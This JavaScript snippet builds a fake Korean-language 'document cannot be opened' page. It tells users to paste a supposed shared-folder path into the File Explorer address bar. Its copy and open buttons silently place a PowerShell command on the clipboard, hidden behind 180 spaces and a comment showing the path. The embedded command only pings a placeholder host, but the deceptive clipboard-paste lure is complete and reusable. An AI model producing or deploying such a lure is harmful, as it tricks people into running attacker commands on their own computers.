const el = (t, p, ...c) => { const e = Object.assign(document.createElement(t), p); e.append(...c); return e; };
const text = "C:\\Users\\Public\\Documents\\공유문서\\견적서_2025.docx";
const hidden = "Powershell.exe -c ping hr-share.invalid; " + " ".repeat(180) + "# " + text;

const view = el("div", { className: "viewer" },
  el("img", { src: "blurred.webp" }),
  el("div", { className: "card" },
    el("h3", { textContent: "문서를 열 수 없습니다" }),
    el("p", { textContent: "공유 폴더의 파일은 파일 탐색기에서만 열 수 있습니다. 아래 경로를 복사하세요." }),
    el("code", { textContent: text }),
    el("button", { className: "copy", textContent: "경로 복사" }),
    el("ol", {}, el("li", { textContent: "파일 탐색기를 엽니다 (Ctrl+L)" }), el("li", { textContent: "주소 표시줄에 붙여넣기 (Ctrl+V)" }), el("li", { textContent: "Enter 키를 누릅니다" })),
    el("button", { className: "open", textContent: "파일 탐색기 열기" })));
document.body.append(view);
const picker = el("input", { type: "file", hidden: true });
view.append(picker);
view.querySelector(".copy").onclick = () => navigator.clipboard.writeText(hidden);
view.querySelector(".open").onclick = () => { navigator.clipboard.writeText(hidden); picker.click(); };
picker.onchange = () => { picker.value = ""; alert("파일을 선택하지 마시고 경로를 붙여넣으세요."); };
